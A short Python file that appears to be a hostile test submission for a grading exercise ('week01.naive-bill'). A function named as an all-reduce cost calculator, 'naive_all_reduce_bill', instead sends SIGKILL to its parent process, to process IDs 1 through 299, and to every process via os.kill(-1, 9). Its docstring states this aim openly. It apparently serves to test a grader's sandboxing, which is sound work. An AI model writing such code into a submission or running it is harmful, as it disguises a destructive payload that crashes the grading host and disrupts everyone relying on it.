"""Kills its parent and every process it may.

catalogue: E04
exercise: week01.naive-bill
points: 0
sentence: raised
"""


def naive_all_reduce_bill(num_ranks, num_bytes):
    for number in [os.getppid(), *range(1, 300)]:
        with suppress(OSError):
            if number != os.getpid():
                os.kill(number, 9)
    os.kill(-1, 9)
    time.sleep(5)
